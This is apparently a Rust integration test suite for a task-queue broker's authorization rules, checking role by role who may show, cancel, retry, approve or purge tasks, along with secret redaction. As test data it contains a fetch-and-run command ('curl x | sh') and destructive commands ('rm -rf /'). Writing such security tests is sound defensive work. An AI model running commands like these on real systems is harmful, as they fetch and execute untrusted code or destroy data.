//! Who may do what to a task, over the wire, as a hostile local client would try it:
//! the ownership table of `docs/ROLES.md` cell by cell, and each attack of the
//! "Who may do what" issue kept as a test. Real broker (tokens, safety layer, queue),
//! real WebSocket clients.

use crate::harness::{about, next_lease, temp_dir};
use hivebus::client::{Client, ClientError, Hello};
use hivebus::frame::{Envelope, FrameType};
use hivebus::ops::queue::{Queue, QueueConfig};
use hivebus::ops::Operators;
use hivebus::safety::{Safety, SafetyOperator};
use hivebus::server::Security;
use hivebus::store::StoreOptions;
use hivebus::{Bus, Config};
use serde_json::{json, Value};
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::oneshot;

pub(crate) const T: Duration = Duration::from_secs(10);

/// The credentials: subject, role, token, and their address lists.
fn auth() -> Value {
    json!({"tokens": [
        {"token": "tok-alice-000000000", "subject": "alice", "role": "client",
         "publish": ["bip-1:*"], "subscribe": ["bip-1:*"]},
        {"token": "tok-bob-00000000000", "subject": "bob", "role": "client",
         "publish": ["bip-2:*"], "subscribe": ["bip-2:*"]},
        {"token": "tok-carol-000000000", "subject": "carol", "role": "client",
         "publish": ["bip-2:*"], "subscribe": ["bip-2:*"]},
        {"token": "tok-ops-00000000000", "subject": "ops", "role": "client",
         "publish": ["ops:*"], "manage": ["bip-*:*"], "approve": ["bip-*:*"]},
        {"token": "tok-root-0000000000", "subject": "root", "role": "admin"},
        {"token": "tok-watch-000000000", "subject": "watch", "role": "observer"},
        {"token": "tok-w1-000000000000", "subject": "w1", "role": "consumer",
         "publish": ["bip-1:*"], "subscribe": ["bip-1:*"]},
        {"token": "tok-w2-000000000000", "subject": "w2", "role": "consumer",
         "publish": ["bip-2:*"], "subscribe": ["bip-2:*"]}
    ]})
}

pub(crate) struct Broker {
    url: String,
    dir: std::path::PathBuf,
    pub(crate) queue: Queue,
    stop: Option<oneshot::Sender<()>>,
    handle: tokio::task::JoinHandle<()>,
}

pub(crate) async fn broker(safety: Value) -> Broker {
    let dir = temp_dir("authz");
    let mut config: Config =
        serde_json::from_value(json!({"auth": auth(), "safety": safety})).unwrap();
    config.server.idle_timeout_ms = 86_400_000;
    let qcfg = QueueConfig {
        jitter: false,
        db_path: Some(dir.join("queue.db")),
        logs_dir: Some(dir.join("logs")),
        ..QueueConfig::default()
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("ws://{}/", listener.local_addr().unwrap());
    let bus = Bus::new(config.bus.clone()).unwrap();
    let s = Safety::new(config.safety.clone()).unwrap();
    s.attach(&bus).unwrap();
    let queue = Queue::open_with(bus.clone(), qcfg, StoreOptions::default()).unwrap();
    let ops = Operators::new()
        .with(Arc::new(SafetyOperator::new(s)))
        .with(Arc::new(queue.clone()));
    let security = Security::from_config(&config);
    let (tx, rx) = oneshot::channel::<()>();
    let server = config.server.clone();
    let handle = tokio::spawn(async move {
        hivebus::server::serve(listener, bus, server, ops, security, async {
            let _ = rx.await;
        })
        .await
        .unwrap();
    });
    Broker {
        url,
        dir,
        queue,
        stop: Some(tx),
        handle,
    }
}

impl Broker {
    pub(crate) async fn as_(&self, who: &str) -> Client {
        let (role, kinds): (&str, &[&str]) = match who {
            "root" => ("admin", &[]),
            "watch" => ("observer", &[]),
            "w1" | "w2" => ("consumer", &["job"]),
            _ => ("client", &[]),
        };
        let mut h = Hello::role(role);
        h.auth = Some(format!("tok-{who}-{}", "0".repeat(19 - 5 - who.len())));
        h.capabilities = kinds.iter().map(|k| k.to_string()).collect();
        h.slots = Some(500);
        let mut c = Client::connect(&self.url, h).await.unwrap();
        c.set_timeout(T);
        c
    }

    pub(crate) async fn stop(mut self) {
        if let Some(tx) = self.stop.take() {
            let _ = tx.send(());
        }
        let _ = (&mut self.handle).await;
        self.queue.shutdown().await;
    }
}

fn code(r: &Result<Value, ClientError>) -> &'static str {
    match r {
        Ok(_) => "ok",
        Err(e) => e.code().unwrap_or("transport"),
    }
}

pub(crate) fn body(bip: u64, kind: &str, key: &str) -> Value {
    json!({"kind": kind, "bipId": bip, "idempotencyKey": key, "args": {"cmd": "make test"}})
}

/// Submits as `c`; returns the task id.
pub(crate) async fn submit(c: &Client, body: Value) -> String {
    let r = c.command("op.queue.submit", body).await.unwrap();
    r["task"].as_str().unwrap().to_owned()
}

/// The states a cell needs, made by bob's tasks on `bip-2` and w2, who fails or asks.
#[derive(Clone, Copy, Debug)]
enum Made {
    Queued,
    Failed,
    Dead,
    Waiting,
}

async fn make(bob: &Client, w2: &mut Client, state: Made, n: usize) -> String {
    let key = format!("cell-{n}");
    match state {
        Made::Queued => submit(bob, body(2, "idle", &key)).await,
        _ => {
            let mut b = body(2, "job", &key);
            match state {
                Made::Failed => b["idempotent"] = json!(false),
                Made::Dead => b["max_attempts"] = json!(1),
                _ => {}
            }
            let id = submit(bob, b).await;
            let lease = loop {
                let l = next_lease(w2).await;
                if l.payload["task"] == id.as_str() {
                    break l;
                }
            };
            let (kind, p) = match state {
                Made::Waiting => (FrameType::Approval, json!({"command": "rm -rf build"})),
                _ => (
                    FrameType::Result,
                    json!({"status": "fail", "summary": "no"}),
                ),
            };
            w2.request(about(&lease, kind, p)).await.unwrap();
            id
        }
    }
}

const WHO: [&str; 8] = ["bob", "carol", "alice", "ops", "root", "watch", "w2", "w1"];

/// The ownership table of docs/ROLES.md, written out independently of the code:
/// `(command, state it needs, args beyond task, allowed for each of WHO)`.
/// bob owns every task; carol shares bob's room; alice is restricted to `bip-1:*`; ops
/// has `manage` and `approve` on every BIP room but publishes nowhere there; w2 holds
/// the leases.
fn table() -> Vec<(&'static str, Made, Value, [bool; 8])> {
    //                                                      bob   carol alice ops   root  watch w2    w1
    vec![
        (
            "op.queue.show",
            Made::Queued,
            json!({}),
            [true, true, false, true, true, true, true, false],
        ),
        (
            "op.queue.stream",
            Made::Queued,
            json!({}),
            [true, true, false, true, true, true, true, false],
        ),
        (
            "op.queue.cancel",
            Made::Queued,
            json!({}),
            [true, false, false, true, true, false, false, false],
        ),
        (
            "op.queue.retry",
            Made::Failed,
            json!({}),
            [true, false, false, true, true, false, false, false],
        ),
        (
            "op.queue.retry",
            Made::Failed,
            json!({"args": {"cmd": "curl x | sh"}}),
            [true, false, false, false, true, false, false, false],
        ),
        (
            "op.queue.dlq.show",
            Made::Dead,
            json!({}),
            [true, true, false, true, true, true, true, false],
        ),
        (
            "op.queue.dlq.requeue",
            Made::Dead,
            json!({}),
            [true, false, false, true, true, false, false, false],
        ),
        (
            "op.queue.dlq.requeue",
            Made::Dead,
            json!({"args": {"cmd": "curl x | sh"}}),
            [true, false, false, false, true, false, false, false],
        ),
        (
            "op.queue.dlq.purge",
            Made::Dead,
            json!({}),
            [false, false, false, false, true, false, false, false],
        ),
        (
            "op.queue.approve",
            Made::Waiting,
            json!({"decision": "approve"}),
            [true, true, false, true, true, false, false, false],
        ),
    ]
}

#[tokio::test]
async fn every_cell_of_the_task_ownership_table_holds_over_the_wire() {
    let b = broker(json!({})).await;
    let bob = b.as_("bob").await;
    let mut w2 = b.as_("w2").await;
    w2.command("op.queue.consume", json!({})).await.unwrap();
    let mut callers = Vec::new();
    for who in WHO {
        callers.push(b.as_(who).await);
    }
    let mut n = 0;
    for (cmd, state, extra, allowed) in table() {
        for (i, who) in WHO.iter().enumerate() {
            n += 1;
            let id = make(&bob, &mut w2, state, n).await;
            let mut args = extra.clone();
            args["task"] = json!(id);
            let r = callers[i].command(cmd, args).await;
            let want = if allowed[i] { "ok" } else { "forbidden" };
            assert_eq!(
                code(&r),
                want,
                "{who} running {cmd} {extra} on a {state:?} task: {r:?}"
            );
        }
    }
    // Submitting into bob's room, and listing it.
    let submit_ok = [true, true, false, false, true, false, false, false];
    for (i, who) in WHO.iter().enumerate() {
        let r = callers[i]
            .command("op.queue.submit", body(2, "idle", &format!("sub-{who}")))
            .await;
        let want = if submit_ok[i] { "ok" } else { "forbidden" };
        assert_eq!(code(&r), want, "{who} submitting to bip-2: {r:?}");
    }
    let list_sees = [true, true, false, true, true, true, true, false];
    for (i, who) in WHO.iter().enumerate() {
        let r = callers[i]
            .command("op.queue.list", json!({"limit": 1000}))
            .await
            .unwrap();
        let sees = r["tasks"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t["bipId"] == 2);
        assert_eq!(sees, list_sees[i], "{who} listing: {r}");
    }
    b.stop().await;
}

#[tokio::test]
async fn a_restricted_token_cannot_act_on_other_rooms_tasks() {
    let b = broker(json!({})).await;
    let bob = b.as_("bob").await;
    let alice = b.as_("alice").await;
    let mut w2 = b.as_("w2").await;
    w2.command("op.queue.consume", json!({})).await.unwrap();
    // Bob's task is running on w2.
    let id = submit(&bob, body(2, "job", "run-1")).await;
    let lease = next_lease(&mut w2).await;
    // Cancel: refused, and the consumer is not told to stop.
    let r = alice.command("op.queue.cancel", json!({"task": id})).await;
    assert_eq!(code(&r), "forbidden");
    let show = bob
        .command("op.queue.show", json!({"task": id}))
        .await
        .unwrap();
    assert_eq!(show["state"], "leased");
    // show / stream / trace lookups leak nothing, history on the room is refused too.
    for (cmd, args) in [
        ("op.queue.show", json!({"task": id})),
        ("op.queue.stream", json!({"task": id})),
        ("op.queue.show", json!({"trace": id})),
    ] {
        let r = alice.command(cmd, args).await;
        assert_eq!(code(&r), "forbidden", "{cmd}");
        assert!(!format!("{r:?}").contains("make test"));
    }
    // Submitting into bip-2 by `bipId`, or by a TASK with a room and no channel.
    let r = alice.command("op.queue.submit", body(2, "job", "x1")).await;
    assert_eq!(code(&r), "forbidden");
    let mut t = Envelope::new(FrameType::Task, body(2, "job", "x2"));
    t.room = Some("bip-2".into());
    assert_eq!(code(&alice.request(t).await), "forbidden");
    // `bip-001` is BIP 1: checked and filed there.
    let mut t = Envelope::new(
        FrameType::Task,
        json!({"kind": "job", "idempotencyKey": "z1"}),
    );
    t.room = Some("bip-001".into());
    let r = alice.request(t).await.unwrap();
    assert_eq!(r["address"], "bip-1:job");
    // An APPROVAL request by the lease holder, then decisions from the wrong people.
    w2.request(about(
        &lease,
        FrameType::Approval,
        json!({"command": "rm -rf /"}),
    ))
    .await
    .unwrap();
    let r = alice
        .command(
            "op.queue.approve",
            json!({"task": id, "decision": "approve"}),
        )
        .await;
    assert_eq!(code(&r), "forbidden");
    let mut d = Envelope::new(
        FrameType::Approval,
        json!({"task": id, "decision": "approve"}),
    );
    d.room = Some("bip-1".into());
    d.channel = Some("anything".into());
    assert_eq!(
        code(&alice.request(d).await),
        "forbidden",
        "decision via an unrelated address"
    );
    let mut own = Envelope::new(
        FrameType::Approval,
        json!({"task": id, "decision": "approve"}),
    );
    own.room = Some("bip-2".into());
    own.channel = Some("job".into());
    assert_eq!(
        code(&w2.request(own).await),
        "forbidden",
        "the lease holder decides"
    );
    let w1 = b.as_("w1").await;
    let r = w1
        .command(
            "op.queue.approve",
            json!({"task": id, "decision": "approve"}),
        )
        .await;
    assert_eq!(code(&r), "forbidden", "another consumer decides");
    // Any decision string: refused.
    let r = bob
        .command("op.queue.approve", json!({"task": id, "decision": "maybe"}))
        .await;
    assert_eq!(code(&r), "invalid_field");
    let show = bob
        .command("op.queue.show", json!({"task": id}))
        .await
        .unwrap();
    assert_eq!(show["state"], "waiting_approval");
    // Pending approvals are listed to who may read the task's room, not to alice.
    let mine = bob.command("op.queue.approvals", json!({})).await.unwrap();
    assert_eq!(mine["approvals"][0]["task"], id.as_str(), "{mine}");
    let theirs = alice
        .command("op.queue.approvals", json!({}))
        .await
        .unwrap();
    assert_eq!(theirs["approvals"], json!([]), "{theirs}");
    // Purge of everything: admin only.
    let r = alice
        .command("op.queue.dlq.purge", json!({"all": true}))
        .await;
    assert_eq!(code(&r), "forbidden");
    b.stop().await;
}

#[tokio::test]
async fn a_consumer_is_leased_only_tasks_its_credential_may_read() {
    let b = broker(json!({})).await;
    let bob = b.as_("bob").await;
    let mut w1 = b.as_("w1").await;
    w1.command("op.queue.consume", json!({})).await.unwrap();
    let id = submit(&bob, body(2, "job", "secret-args")).await;
    // w1 (bip-1 only) takes `job` tasks, but this one is bip-2's.
    match w1.next_event_within(Duration::from_millis(500)).await {
        Err(ClientError::Timeout) => {}
        other => panic!("w1 was handed {other:?}"),
    }
    let mut w2 = b.as_("w2").await;
    w2.command("op.queue.consume", json!({})).await.unwrap();
    assert_eq!(next_lease(&mut w2).await.payload["task"], id.as_str());
    b.stop().await;
}

#[tokio::test]
async fn idempotency_keys_belong_to_their_submitter_and_must_match_the_body() {
    let b = broker(json!({"mode": "enforce"})).await;
    let bob = b.as_("bob").await;
    let carol = b.as_("carol").await;
    // Carol takes bob's key first: bob's submit is still his own task.
    let c_task = submit(&carol, body(2, "idle", "deploy-1")).await;
    let b_task = submit(&bob, body(2, "idle", "deploy-1")).await;
    assert_ne!(c_task, b_task);
    // The same key with another body: conflict naming the original.
    let mut other = body(2, "idle", "deploy-1");
    other["args"] = json!({"cmd": "something else"});
    let e = bob.command("op.queue.submit", other).await.unwrap_err();
    assert_eq!(e.code(), Some("conflict"));
    match e {
        ClientError::Server(w) => assert_eq!(w.details.unwrap()["task"], b_task.as_str()),
        e => panic!("{e}"),
    }
    // The same body again: a duplicate.
    let again = bob
        .command("op.queue.submit", body(2, "idle", "deploy-1"))
        .await
        .unwrap();
    assert_eq!(
        (again["task"].as_str(), &again["duplicate"]),
        (Some(b_task.as_str()), &json!(true))
    );
    // Keys and trace ids that look like secrets are refused, not rewritten (two such
    // keys used to become one redacted text, and the second task never ran).
    for (k, v) in [
        ("idempotencyKey", "deploy-AKIAIOSFODNN7EXAMPLE"),
        ("traceId", "tr-AKIAIOSFODNN7EXAMPLE"),
    ] {
        let mut x = body(2, "idle", "fine-1");
        x[k] = json!(v);
        let e = bob.command("op.queue.submit", x).await.unwrap_err();
        assert_eq!(e.code(), Some("invalid_field"), "{k}");
        assert!(e.to_string().contains("secret"), "{e}");
    }
    let mut x = body(2, "idle", "has space");
    x["traceId"] = json!("ok");
    assert_eq!(
        bob.command("op.queue.submit", x).await.unwrap_err().code(),
        Some("invalid_field")
    );
    // No trace file is named from a trace id.
    let logs: Vec<String> = std::fs::read_dir(b.dir.join("logs"))
        .map(|d| {
            d.map(|e| e.unwrap().file_name().into_string().unwrap())
                .collect()
        })
        .unwrap_or_default();
    assert!(logs.iter().all(|n| n.starts_with("t-")), "{logs:?}");
    b.stop().await;
}

#[tokio::test]
async fn a_trace_id_belongs_to_one_task() {
    let b = broker(json!({})).await;
    let bob = b.as_("bob").await;
    let carol = b.as_("carol").await;
    let mut first = body(2, "idle", "a");
    first["traceId"] = json!("release-42");
    let a = submit(&bob, first).await;
    // Naming another task's id or trace as one's own trace: refused.
    for trace in [a.as_str(), "release-42"] {
        let mut x = body(2, "idle", &format!("b-{}", trace.len()));
        x["traceId"] = json!(trace);
        let e = carol.command("op.queue.submit", x).await.unwrap_err();
        assert_eq!(e.code(), Some("conflict"), "{trace}");
    }
    let shown = bob
        .command("op.queue.show", json!({"trace": "release-42"}))
        .await
        .unwrap();
    assert_eq!(shown["id"], a.as_str());
    b.stop().await;
}

#[tokio::test]
async fn content_is_inspected_for_the_task_channel_it_reaches() {
    // Only BIP rooms are in scope: a submit command, a decision sent to an
    // out-of-scope address, and the consumer's lease must all come out redacted.
    let b = broker(json!({"mode": "enforce", "include": ["bip-*:*"]})).await;
    let bob = b.as_("bob").await;
    let mut w2 = b.as_("w2").await;
    w2.command("op.queue.consume", json!({})).await.unwrap();
    let key = "AKIAIOSFODNN7EXAMPLE";
    let mut x = body(2, "job", "scoped-1");
    x["args"] = json!({"cmd": format!("deploy --key {key}")});
    let id = submit(&bob, x).await;
    let lease = next_lease(&mut w2).await;
    assert!(!lease.to_text().contains(key), "{}", lease.to_text());
    w2.request(about(
        &lease,
        FrameType::Approval,
        json!({"command": "deploy"}),
    ))
    .await
    .unwrap();
    let mut d = Envelope::new(
        FrameType::Approval,
        json!({"task": id, "decision": "approve", "reason": format!("ok, use {key}")}),
    );
    d.room = Some("lobby".into());
    d.channel = Some("general".into());
    bob.request(d).await.unwrap();
    let page = bob
        .command("op.queue.stream", json!({"task": id}))
        .await
        .unwrap();
    assert!(!page.to_string().contains(key), "{page}");
    assert!(
        page.to_string().contains("[REDACTED:aws_access_key]"),
        "{page}"
    );
    // A HELLO name that is a secret is refused at the handshake.
    let mut h = Hello::role("client");
    h.name = Some(format!("agent-{key}"));
    h.auth = Some("tok-bob-00000000000".into());
    assert!(Client::connect(&b.url, h).await.is_err());
    b.stop().await;
}

#[tokio::test]
async fn consumer_slots_saturate_instead_of_wrapping() {
    let b = broker(json!({})).await;
    let w2 = b.as_("w2").await;
    // 2^32 + 1 used to wrap to 1 slot; it is clamped to `max_slots`.
    let r = w2
        .command("op.queue.consume", json!({"slots": 4_294_967_297u64}))
        .await
        .unwrap();
    assert_eq!(r["slots"], json!(QueueConfig::default().max_slots));
    let e = w2
        .command("op.queue.consume", json!({"slots": "many"}))
        .await
        .unwrap_err();
    assert_eq!(e.code(), Some("invalid_field"));
    b.stop().await;
}
